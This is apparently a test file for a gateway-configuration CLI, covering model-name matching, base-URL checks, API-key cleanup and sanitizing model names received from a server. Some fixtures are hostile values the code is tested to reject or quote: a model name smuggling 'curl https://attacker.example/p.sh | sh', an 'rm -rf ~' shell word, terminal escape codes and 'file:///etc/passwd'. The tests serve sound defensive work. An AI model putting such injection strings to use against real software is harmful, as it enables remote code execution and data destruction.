import { classify } from '../../src/gateway/classify.js';
import { describe, expect, it } from 'vitest';
import { canonicalModel, closestNames, editDistance, normalizeModel, MAX_MODELS, servedModels, usableModelId } from '../../src/gateway/models.js';
import { shellWord } from '../../src/platform/posix.js';
import { environmentOf, isLoopbackAddress, isLoopbackHost, normalizeBaseUrl } from '../../src/gateway/urls.js';
import { maskKey, normalizeKey, redact, validateKey } from '../../src/gateway/key.js';

describe('models', () => {
  it.each([
    ['gpt-5.4', 'gpt-5.4'],
    ['GPT-5.4', 'gpt-5.4'],
    [' o3 ', 'o3'],
    ['claude-sonnet-4.6', 'claude-sonnet-4.6'],
    ['codex', 'gpt-5.3-codex'],
    ['gpt-codex', 'gpt-5.3-codex'],
    ['gpt5.4', 'gpt-5.4'],
  ])('%s -> %s', (input, id) => {
    expect(normalizeModel(input)).toBe(id);
  });

  it.each([
    ['gpt-5', /gpt-5\.4/],
    ['gpt-5.4-min', /"gpt-5\.4-mini"/],
    ['claude-opus', /"claude-opus-4\.6"/],
    ['o4mini', /"o4-mini"/],
  ])('unknown %s suggests the closest names', (input, suggestion) => {
    let hint = '';
    try {
      normalizeModel(input);
    } catch (e) {
      hint = (e as { hint: string }).hint;
      expect((e as { exitCode: number }).exitCode).toBe(2);
    }
    expect(hint).toMatch(suggestion);
  });

  it.each([
    ['gpt-5', 'Unknown model "gpt-5".', 'Did you mean "gpt-5.4" or "gpt-5.4-mini" or "gpt-5.3-codex"? Models: gpt-5.4, gpt-5.4-mini, gpt-5.3-codex, o3, o4-mini, claude-opus-4.6, claude-sonnet-4.6.'],
    ['llama-3-70b', 'Unknown model "llama-3-70b".', 'Models: gpt-5.4, gpt-5.4-mini, gpt-5.3-codex, o3, o4-mini, claude-opus-4.6, claude-sonnet-4.6 (aliases: codex, gpt-codex, gpt5.4).'],
  ])('unknown %s: the exact message and hint', (input, message, hint) => {
    expect(() => normalizeModel(input)).toThrowError(expect.objectContaining({ message, hint, exitCode: 2 }));
  });

  it.each<[string, string[], string[]]>([
    // Nearest first; equally near in alphabetical order; at most three.
    ['gpt-5.4-min', ['o4-mini', 'gpt-5.4', 'gpt-5.4-mini'], ['gpt-5.4-mini', 'gpt-5.4']],
    ['c-x', ['b-x', 'a-x'], ['a-x', 'b-x']],
    ['ab-x', ['ab-1', 'ab-2', 'ab-3', 'ab-4'], ['ab-1', 'ab-2', 'ab-3']],
    ['o3', ['o3', 'o3'], ['o3']],
    // Names are compared trimmed and without case, and given back as the candidates spell them.
    ['  GPT-5.4-MINI ', ['gpt-5.4-mini'], ['gpt-5.4-mini']],
    ['gpt', ['GPT-5.4'], ['GPT-5.4']],
    ['gpt-5.4-long-name', ['gpt-5.4'], ['gpt-5.4']],
    // Within a third of the candidate's length (at least 2): 2 edits of 6 letters, 4 of 12.
    ['abcdxy', ['abcdef'], ['abcdef']],
    ['abcxyz', ['abcdef'], []],
    ['abcdefghixyz', ['abcdefghijkl'], ['abcdefghijkl']],
    ['codex-5', ['gpt-codex'], []],
  ])('closest to %j among %j: %j', (name, candidates, want) => expect(closestNames(name, candidates)).toEqual(want));

  it.each([
    ['', '', 0],
    ['a', '', 1],
    ['', 'abc', 3],
    ['abc', 'abd', 1],
    ['kitten', 'sitting', 3],
    ['gpt-5.4', 'gpt-5.4-mini', 5],
    ['o3', 'o4', 1],
  ])('edit distance %j -> %j is %d', (a, b, d) => {
    expect(editDistance(a, b)).toBe(d);
    expect(editDistance(b, a)).toBe(d);
  });

  it('names nothing far away', () => {
    expect(closestNames('llama-3-70b', ['gpt-5.4', 'o3'])).toEqual([]);
    expect(canonicalModel('gpt-4')).toBeUndefined();
  });
});

describe('base URLs', () => {
  it.each([
    ['https://api.lightweight.one/v1', 'https://api.lightweight.one/v1', 0],
    ['https://api.lightweight.one/v1/', 'https://api.lightweight.one/v1', 0],
    ['  https://API.lightweight.one/v1  ', 'https://api.lightweight.one/v1', 0],
    ['https://gw.example.com:8443/openai/v1', 'https://gw.example.com:8443/openai/v1', 0],
    ['https://api.lightweight.one', 'https://api.lightweight.one', 1],
    ['http://127.0.0.1:8080/v1', 'http://127.0.0.1:8080/v1', 0],
    ['http://localhost:8080/v1', 'http://localhost:8080/v1', 0],
    ['http://[::1]:8080/v1', 'http://[::1]:8080/v1', 0],
  ])('%s is accepted as %s', (input, url, warnings) => {
    const r = normalizeBaseUrl(input);
    expect(r.url).toBe(url);
    expect(r.warnings).toHaveLength(warnings);
  });

  it.each([
    ['https://api.lightweight.one/v1/models', 'https://api.lightweight.one/v1', 'Took the base URL https://api.lightweight.one/v1: /models is an endpoint under it, which Codex adds itself.'],
    ['https://gw.example.com/v1/responses/', 'https://gw.example.com/v1', 'Took the base URL https://gw.example.com/v1: /responses is an endpoint under it, which Codex adds itself.'],
    ['https://gw.example.com/openai/v1/chat/completions', 'https://gw.example.com/openai/v1', 'Took the base URL https://gw.example.com/openai/v1: /chat/completions is an endpoint under it, which Codex adds itself.'],
    ['https://api.lightweight.one', 'https://api.lightweight.one/v1', "Took the base URL https://api.lightweight.one/v1: the gateway's API is under /v1."],
    ['https://preview.api.lightweight.one/', 'https://preview.api.lightweight.one/v1', "Took the base URL https://preview.api.lightweight.one/v1: the gateway's API is under /v1."],
  ])('typed by the user, %s is taken as %s, saying so', (input, url, note) => {
    const r = normalizeBaseUrl(input, { correct: true });
    expect(r).toEqual({ url, notes: [note], warnings: [] });
  });

  it('another gateway without /v1 gets a "did you mean" warning, not a correction', () => {
    expect(normalizeBaseUrl('https://gw.example.com/api', { correct: true })).toEqual({
      url: 'https://gw.example.com/api',
      notes: [],
      warnings: ['The base URL https://gw.example.com/api does not end in /v1, and OpenAI-compatible gateways usually answer 404 without it: did you mean https://gw.example.com/api/v1?'],
    });
  });

  it('read from config.toml, a value is judged as Codex uses it: nothing is corrected', () => {
    expect(normalizeBaseUrl('https://api.lightweight.one/v1/models')).toMatchObject({ url: 'https://api.lightweight.one/v1/models', notes: [] });
    expect(normalizeBaseUrl('https://api.lightweight.one')).toMatchObject({ url: 'https://api.lightweight.one', notes: [], warnings: [expect.stringContaining('does not end in /v1')] });
  });

  it.each([
    ['', 'The base URL is empty.', 'Use for example https://api.lightweight.one/v1.'],
    ['api.lightweight.one/v1', 'The base URL "api.lightweight.one/v1" has no scheme.', 'Did you mean https://api.lightweight.one/v1?'],
    ['//gw.example.com/v1', 'The base URL "//gw.example.com/v1" has no scheme.', 'Did you mean https://gw.example.com/v1?'],
    ['/gw.example.com/v1?x:1', 'The base URL "/gw.example.com/v1?x:1" has no scheme.', 'Did you mean https://gw.example.com/v1?x:1?'],
    ['https://a\tb/v1', 'The base URL "https://a\\x09b/v1" contains spaces or control characters.', undefined],
    ['https://a\u001b[2Jb/v1', 'The base URL "https://a\\x1b[2Jb/v1" contains spaces or control characters.', undefined],
    ['https://', 'The base URL "https://" is not a valid URL.', 'Use for example https://api.lightweight.one/v1.'],
    ['ftp://x/v1', 'The base URL must use https:// (got ftp:).', 'Use for example https://api.lightweight.one/v1.'],
    ['https://user@gw.example.com/v1', 'The base URL contains a user name or password.', 'Leave credentials out of the URL: the key is sent as a bearer token from LIGHTWEIGHT_API_KEY.'],
    ['https://:pw@gw.example.com/v1', 'The base URL contains a user name or password.', 'Leave credentials out of the URL: the key is sent as a bearer token from LIGHTWEIGHT_API_KEY.'],
    ['http://gw.example.com/v1', 'Plain http:// is only allowed for this machine (localhost, 127.0.0.1, ::1), not gw.example.com.', 'Use https:// so the key is not sent in clear text.'],
    ['https://gw.example.com/v1#top', 'The base URL must not have a query string or fragment.', 'Use for example https://api.lightweight.one/v1.'],
  ])('%j is refused with what to do', (input, message, hint) => {
    expect(() => normalizeBaseUrl(input)).toThrowError(expect.objectContaining({ message, hint, exitCode: 2 }));
  });

  it.each([
    // Trailing slashes, however many, are not part of the base.
    ['https://gw.example.com/v1//', {}, { url: 'https://gw.example.com/v1', notes: [], warnings: [] }],
    // An endpoint alone is a path, not something to strip down to nothing.
    ['https://gw.example.com/models', { correct: true }, { url: 'https://gw.example.com/models', notes: [], warnings: ['The base URL https://gw.example.com/models does not end in /v1, and OpenAI-compatible gateways usually answer 404 without it: did you mean https://gw.example.com/models/v1?'] }],
    ['https://gw.example.com/v1/extra', {}, { url: 'https://gw.example.com/v1/extra', notes: [], warnings: [expect.stringContaining('does not end in /v1')] }],
    // The gateway's own host with some other path is not rewritten, only warned about.
    ['https://api.lightweight.one/api', { correct: true }, { url: 'https://api.lightweight.one/api', notes: [], warnings: [expect.stringContaining('did you mean https://api.lightweight.one/api/v1?')] }],
  ])('%s %j is %j', (input, opts, want) => expect(normalizeBaseUrl(input, opts)).toEqual(want));

  it.each([
    ['  https://api.lightweight.one/v1//  ', 'production'],
    ['https://preview.api.lightweight.one/v1', 'preview'],
    ['https://api.lightweight.one/v2', 'custom'],
  ])('environment of %j: %s', (url, env) => expect(environmentOf(url)).toBe(env));

  it.each([
    ['127.0.0.10', true],
    ['127.255.255.254', true],
    ['1127.0.0.1', false],
    ['127.0.0.1x', false],
    ['127.0.0', false],
    ['::ffff:127.0.0.10', true],
    ['x::ffff:127.0.0.1', false],
    ['::ffff:127.0.0.1x', false],
    ['::1', true],
    ['::2', false],
  ])('loopback address %s: %s', (a, yes) => expect(isLoopbackAddress(a)).toBe(yes));

  it.each([
    ['', /empty/],
    ['api.lightweight.one/v1', /no scheme.*|Did you mean/],
    ['http://api.lightweight.one/v1', /only allowed for this machine/],
    ['https://user:pw@api.lightweight.one/v1', /user name or password/],
    ['javascript:alert(1)', /must use https/],
    ['file:///etc/passwd', /must use https/],
    ['ftp://x/v1', /must use https/],
    ['https://api.lightweight.one/v1?x=1', /query string/],
    ['https://api.light weight.one/v1', /spaces/],
    ['https://', /not a valid URL/],
  ])('%j is refused', (input, message) => {
    expect(() => normalizeBaseUrl(input)).toThrowError(message);
  });

  it('tells production, preview and custom apart', () => {
    expect(environmentOf('https://api.lightweight.one/v1')).toBe('production');
    expect(environmentOf('https://preview.api.lightweight.one/v1/')).toBe('preview');
    expect(environmentOf('http://127.0.0.1:1/v1')).toBe('custom');
  });

  it.each([
    ['127.0.0.1', true],
    ['127.1.2.3', true],
    ['localhost', true],
    ['LocalHost', true],
    // DNS decides where a name under .localhost goes: not this machine's word.
    ['app.localhost', false],
    ['[::1]', true],
    ['::1', true],
    ['[::ffff:127.0.0.1]', true],
    ['[::2]', false],
    ['[::1', false],
    ['::1]', false],
    ['10.0.0.1', false],
    ['127.0.0.1.nip.io', false],
    ['localhost.example.com', false],
  ])('loopback %s: %s', (host, yes) => expect(isLoopbackHost(host)).toBe(yes));

  it('refuses plain http to a name under .localhost', () => {
    expect(() => normalizeBaseUrl('http://app.localhost:8080/v1')).toThrow(/only allowed for this machine/);
  });

});

describe('keys', () => {
  it.each([
    ['  sk-abc  \n', 'sk-abc'],
    ["a'b\"c$(x)`y`;z\\w", "a'b\"c$(x)`y`;z\\w"],
  ])('%j is kept as %j', (input, key) => expect(validateKey(input, 'test')).toBe(key));

  it.each([
    ['sk-lw-abc123', 'sk-lw-abc123', []],
    ['  sk-lw-abc123\r\n', 'sk-lw-abc123', []],
    ['Bearer sk-lw-abc123', 'sk-lw-abc123', ['the "Bearer " in front']],
    ['bearer   sk-lw-abc123', 'sk-lw-abc123', ['the "Bearer " in front']],
    ['Authorization: Bearer sk-lw-abc123', 'sk-lw-abc123', ['the "Bearer " in front']],
    ['"sk-lw-abc123"', 'sk-lw-abc123', ['the quotes around it']],
    ["'sk-lw-abc123'", 'sk-lw-abc123', ['the quotes around it']],
    ['LIGHTWEIGHT_API_KEY=sk-lw-abc123', 'sk-lw-abc123', ['the `LIGHTWEIGHT_API_KEY=` in front']],
    ['export LIGHTWEIGHT_API_KEY="sk-lw-abc123"', 'sk-lw-abc123', ['the `export` in front', 'the `LIGHTWEIGHT_API_KEY=` in front', 'the quotes around it']],
    ["\"Bearer 'sk-lw-abc123'\"", 'sk-lw-abc123', ['the quotes around it', 'the "Bearer " in front']],
    ['sk-"inner"-quotes', 'sk-"inner"-quotes', []],
  ])('normalizeKey(%j) is %j, having removed %j', (input, key, removed) => {
    expect(normalizeKey(input, 'test')).toEqual({ key, removed });
  });

  it.each([
    ['sk-lw abc123', 'The API key from test has a space in it (at position 6), so it is not one key.'],
    ['Bearer sk lw', 'The API key from test has a space in it (at position 3), so it is not one key.'],
    ['"sk-lw\tabc"', 'The API key from test has a space in it (at position 6), so it is not one key.'],
    ['""', 'The API key from test is empty.'],
    ['Bearer ', 'The API key from test is only the word "Bearer".'],
  ])('normalizeKey(%j) is refused: %s', (input, message) => {
    expect(() => normalizeKey(input, 'test')).toThrowError(message);
  });

  it.each([
    ['Bearer Bearer sk-lw-abc123', 'sk-lw-abc123', ['the "Bearer " in front']],
    ['export  LIGHTWEIGHT_API_KEY=  sk-lw-abc123', 'sk-lw-abc123', ['the `export` in front', 'the `LIGHTWEIGHT_API_KEY=` in front']],
    ['LIGHTWEIGHT_API_KEY = sk-lw-abc123', 'sk-lw-abc123', ['the `LIGHTWEIGHT_API_KEY=` in front']],
    ['Authorization:Bearer  sk-lw-abc123', 'sk-lw-abc123', ['the "Bearer " in front']],
    ['" sk-lw-abc123 "', 'sk-lw-abc123', ['the quotes around it']],
    ['sk-"quoted"', 'sk-"quoted"', []],
    ['"sk-lw"-abc', '"sk-lw"-abc', []],
    ['sk-lw-bearer', 'sk-lw-bearer', []],
    ['bearer-token-123', 'bearer-token-123', []],
    ['~~printable~~', '~~printable~~', []],
  ])('pasted wrappings: normalizeKey(%j) is %j, having removed %j', (input, key, removed) => {
    expect(normalizeKey(input, 'test')).toEqual({ key, removed });
  });

  /** The whole refusal a user reads: message, hint and exit code. */
  const refusal = (fn: () => unknown) => {
    try {
      fn();
    } catch (err) {
      const e = err as { message: string; hint?: string; exitCode: number };
      return { message: e.message, hint: e.hint, exitCode: e.exitCode };
    }
    throw new Error('not refused');
  };

  it.each([
    ['sk-lw-abc export def', 'The API key from test has a space in it (at position 10), so it is not one key.', 'Paste the key alone, as the Lightweight dashboard shows it; nothing was written.'],
    ['ab LIGHTWEIGHT_API_KEY=abcdef', 'The API key from test has a space in it (at position 3), so it is not one key.', 'Paste the key alone, as the Lightweight dashboard shows it; nothing was written.'],
    ['a bc', 'The API key from test has a space in it (at position 2), so it is not one key.', 'Paste the key alone, as the Lightweight dashboard shows it; nothing was written.'],
    ['Bearer', 'The API key from test is only the word "Bearer".', 'Paste the key itself, as the Lightweight dashboard shows it; nothing was written.'],
    ['sk-\u007fdel', 'The API key from test contains a character outside printable ASCII at position 4.', 'Copy the key again from the Lightweight dashboard; keys are plain ASCII.'],
    ['x'.repeat(4097), 'The API key from test is 4097 characters long; at most 4096 are accepted.', 'Check that you pasted the key and nothing else.'],
  ])('refused with what to do: %j', (input, message, hint) => {
    expect(refusal(() => normalizeKey(input, 'test'))).toEqual({ message, hint, exitCode: 2 });
  });

  it('a key of exactly 4096 characters is accepted', () => expect(validateKey('k'.repeat(4096), 'test')).toHaveLength(4096));

  it('redacting with no key, or an empty one, changes nothing', () => {
    expect(redact('a b', undefined)).toBe('a b');
    expect(redact('a b', '')).toBe('a b');
  });

  it.each([
    ['', /empty/],
    ['   ', /empty/],
    ['sk-\u0001abc', /position 4/],
    ['sk-abc\ndef', /position 7/],
    ['sk-é', /outside printable ASCII/],
    ['x'.repeat(4097), /at most 4096/],
  ])('%j is refused', (input, message) => expect(() => validateKey(input, 'test')).toThrowError(message));

  it.each([
    ['sk-1234567890abcdef', '****cdef'],
    ['short', '****'],
    ['elevenchars', '****'],
    ['twelve-chars', '****hars'],
  ])('%s is shown as %s', (key, shown) => expect(maskKey(key)).toBe(shown));

  it('redacts every occurrence', () => {
    expect(redact('a sk-1234567890abcdef b sk-1234567890abcdef', 'sk-1234567890abcdef')).toBe('a ****cdef b ****cdef');
  });
});

describe('model names from the network (issue 21, 8 and 9)', () => {
  it.each([
    ['gpt-5.4', true],
    ['openai/gpt-4o', true],
    ['claude-3-5-sonnet@20240620', true],
    ['models/gemini-2.5-pro:latest', true],
    ['gpt-5.4-mini; curl -s https://attacker.example/p.sh | sh #', false],
    ['gpt\n[ok] forged', false],
    ['gpt\u001b[2J', false],
    ["it's", false],
    ['', false],
    ['x'.repeat(129), false],
    ['-rf', false],
  ])('%j usable: %s', (id, ok) => expect(usableModelId(id)).toBe(ok));

  it('keeps usable names once each, at most MAX_MODELS, and counts what it left out', () => {
    const many = Array.from({ length: 5000 }, (_, i) => `m-${i}`);
    expect(servedModels([...many, 'a;b', 'gpt\nx', 'm-1'])).toEqual({ models: many.slice(0, MAX_MODELS), unusable: 2, beyondLimit: 5000 - MAX_MODELS });
    expect(servedModels(['gpt-5.4', 'o3'])).toEqual({ models: ['gpt-5.4', 'o3'], unusable: 0, beyondLimit: 0 });
  });

  it('a value put into a printed command is one shell word', () => {
    expect(shellWord('gpt-5.4')).toBe('gpt-5.4');
    expect(shellWord('a; rm -rf ~ #')).toBe("'a; rm -rf ~ #'");
    expect(shellWord("it's")).toBe("'it'\\''s'");
  });

  it("says what it left out of the gateway's list", () => {
    const body = JSON.stringify({ data: [{ id: 'gpt-5.4' }, { id: 'gpt-5.4-mini; curl x | sh #' }, { id: 'a\nb' }] });
    expect(classify({ kind: 'response', status: 200, headers: {}, body, elapsedMs: 5 }, { baseUrl: 'https://api.lightweight.one/v1', timeoutSeconds: 10 })).toMatchObject({
      ok: true,
      models: ['gpt-5.4'],
      summary: 'The gateway at api.lightweight.one answered in 5 ms with 1 model (2 with characters no model name has left out).',
    });
  });
});
